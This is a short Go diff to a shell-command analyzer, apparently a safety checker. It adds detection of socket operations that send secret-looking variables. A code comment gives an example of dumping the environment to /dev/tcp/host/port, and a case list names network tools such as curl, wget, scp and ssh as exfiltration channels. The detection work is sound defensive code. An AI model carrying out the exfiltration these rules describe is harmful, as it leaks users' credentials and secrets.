@@ -362,7 +362,11 @@ func judgeConnect(s *shell.Line, e *shell.Effect) *shellAdvice {
 	case e.Op != "socket" && e.Op != "upload" && e.Op != "listen":
 		return nil
 	}
-	switch commandOf(s, e).Name {
+	c := commandOf(s, e)
+	if e.Op == "socket" && slices.ContainsFunc(c.Argv, func(w shell.Word) bool { return w.Dynamic && losses.SecretVariable(strings.Trim(w.Text, "${}")) }) {
+		return adviceSendVariable
+	}
+	switch c.Name {
 	case "env", "printenv", "set", "export":
 		return adviceSendSecret // env > /dev/tcp/host/port
 	case "curl", "wget", "scp", "rsync", "ssh", "sftp", "http", "https", "xh":
